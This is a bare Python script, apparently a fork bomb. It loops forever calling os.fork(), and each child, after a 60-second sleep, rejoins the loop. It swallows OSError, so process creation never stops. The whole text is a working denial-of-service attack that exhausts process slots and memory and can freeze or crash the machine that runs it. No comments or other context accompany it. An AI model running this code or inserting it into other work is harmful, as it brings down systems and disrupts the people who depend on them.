import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(60)
    except OSError:
        pass
